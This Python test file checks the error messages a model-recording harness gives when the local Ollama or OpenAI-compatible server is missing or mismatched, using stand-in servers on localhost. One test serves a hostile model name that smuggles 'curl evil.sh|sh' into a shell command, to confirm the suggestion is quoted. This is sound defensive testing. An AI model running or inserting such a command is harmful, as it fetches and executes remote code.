"""The live model's preflight (harness/live_model.py) when the learner's server is not the
one the options name: each error says the next step. With Ollama unreachable and an
OpenAI-compatible server answering at its default address, the error says `--api openai`
and a model that server lists; an Ollama name (name:tag) sent to a server that lists none
such says which wire it belongs to. Against the stand-ins on 127.0.0.1, through
record_run.py as a learner runs it."""

import json
import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

import openai_model
from harness.live_model import OTHER_WIRE
from tests.in_process import run_cli
from tests.ollama_test_server import OllamaTestServer
from tests.openai_test_server import OpenAITestServer

SERVED = "qwen2.5-coder-1.5b"  # as llama-server lists a model started with --alias


def record_with_openai_at(tmp_path, *options, base_url, key=None):
    env = {**os.environ, "OPENAI_BASE_URL": base_url}
    if key:
        env["OPENAI_API_KEY"] = key
    return run_cli("record_run.py", *options, "--output", tmp_path / "run.json", env=env)


def test_ollama_unreachable_while_an_openai_server_answers_suggests_api_openai(
    tmp_path, unused_port
):
    with OpenAITestServer(models=(SERVED, "other")) as server:
        finished = record_with_openai_at(
            tmp_path, "--host", f"http://127.0.0.1:{unused_port}", base_url=server.base_url
        )
        assert [r["path"] for r in server.requests] == ["/v1/models"]  # asked, never chatted
    assert finished.returncode == 2
    assert "cannot reach Ollama" in finished.stderr
    said = OTHER_WIRE.format(base_url=server.base_url, listed=f"{SERVED}, other", first=SERVED)
    assert said in finished.stderr
    assert not (tmp_path / "run.json").exists()


def test_ollama_unreachable_with_nothing_at_the_openai_address_says_only_that(
    tmp_path, unused_port
):
    nowhere = f"http://127.0.0.1:{unused_port}"
    finished = record_with_openai_at(tmp_path, "--host", nowhere, base_url=f"{nowhere}/v1")
    assert finished.returncode == 2
    assert "cannot reach Ollama" in finished.stderr and "--api openai" not in finished.stderr


def test_an_ollama_that_answers_is_never_second_guessed(tmp_path):
    with OllamaTestServer(models=()) as ollama, OpenAITestServer(models=(SERVED,)) as other:
        finished = record_with_openai_at(tmp_path, "--host", ollama.host, base_url=other.base_url)
        assert other.requests == []  # a missing model is Ollama's answer, not an absent server
    assert finished.returncode == 2
    assert "is not available at" in finished.stderr and "--api openai" not in finished.stderr


def test_an_ollama_name_sent_to_an_openai_server_says_which_wire_it_belongs_to(tmp_path):
    with OpenAITestServer(models=(SERVED,)) as server:
        options = ("--api", "openai", "--host", server.base_url, "--model", "qwen2.5-coder:1.5b")
        finished = record_with_openai_at(tmp_path, *options, base_url=server.base_url)
    assert finished.returncode == 2
    assert f"which lists: {SERVED}" in finished.stderr
    assert openai_model.OLLAMA_NAME.format(model="qwen2.5-coder:1.5b") in finished.stderr


def test_a_name_with_a_colon_is_not_called_ollamas_where_the_server_lists_such_names(tmp_path):
    with OpenAITestServer(models=("gemma4:e2b",)) as server:  # Ollama's own /v1, say
        options = ("--api", "openai", "--host", server.base_url, "--model", "qwen2.5-coder:1.5b")
        finished = record_with_openai_at(tmp_path, *options, base_url=server.base_url)
    assert finished.returncode == 2
    assert "which lists: gemma4:e2b" in finished.stderr and "Ollama names" not in finished.stderr


def test_the_probe_sends_no_key_and_a_hostile_name_is_suggested_quoted(tmp_path, unused_port):
    # an address the user never named gets no $OPENAI_API_KEY; a listed name is pasted
    # into a shell as shown, so it is quoted
    hostile = "q; curl evil.sh|sh #"
    with OpenAITestServer(models=(hostile,)) as server:
        finished = record_with_openai_at(
            tmp_path, "--host", f"http://127.0.0.1:{unused_port}", base_url=server.base_url,
            key="sk-live-not-for-this-server",
        )  # fmt: skip
        headers = server.requests[0]["headers"]
    assert "Authorization" not in headers
    assert "add --api openai --model 'q; curl evil.sh|sh #'" in finished.stderr


def test_no_address_but_this_machines_own_is_asked(tmp_path, unused_port):
    # a cloud URL in $OPENAI_BASE_URL is never asked because Ollama is down
    finished = record_with_openai_at(
        tmp_path, "--host", f"http://127.0.0.1:{unused_port}", base_url="http://192.0.2.1/v1"
    )
    assert finished.returncode == 2 and "--api openai" not in finished.stderr


class Dripping(BaseHTTPRequestHandler):
    """A model list sent a byte every half second, or one whose names are not text."""

    def do_GET(self):
        body = json.dumps({"data": [{"id": ["not", "text"]}, {"id": "ok"}]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        for byte in body if self.server.drip else [body]:
            self.wfile.write(bytes([byte]) if self.server.drip else byte)
            self.wfile.flush()
            time.sleep(0.5 if self.server.drip else 0)

    def log_message(self, *args):
        pass


@pytest.mark.waits
@pytest.mark.parametrize("drip", [True, False], ids=["dripping", "names-not-text"])
def test_a_slow_or_odd_listing_costs_at_most_the_probe_and_never_a_traceback(
    tmp_path, unused_port, drip
):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Dripping)
    server.drip, server.daemon_threads = drip, True
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        started = time.monotonic()
        finished = record_with_openai_at(
            tmp_path, "--host", f"http://127.0.0.1:{unused_port}",
            base_url=f"http://127.0.0.1:{server.server_address[1]}/v1",
        )  # fmt: skip
        took = time.monotonic() - started
    finally:
        server.shutdown()
        server.server_close()
    assert finished.returncode == 2 and "Traceback" not in finished.stderr
    if drip:  # the whole list would take about 20 s to arrive
        assert "--api openai" not in finished.stderr and took < 15, took
    else:  # the entry whose name is not text names nothing; the other is suggested
        assert "(it lists ok): to use it, add --api openai --model ok" in finished.stderr
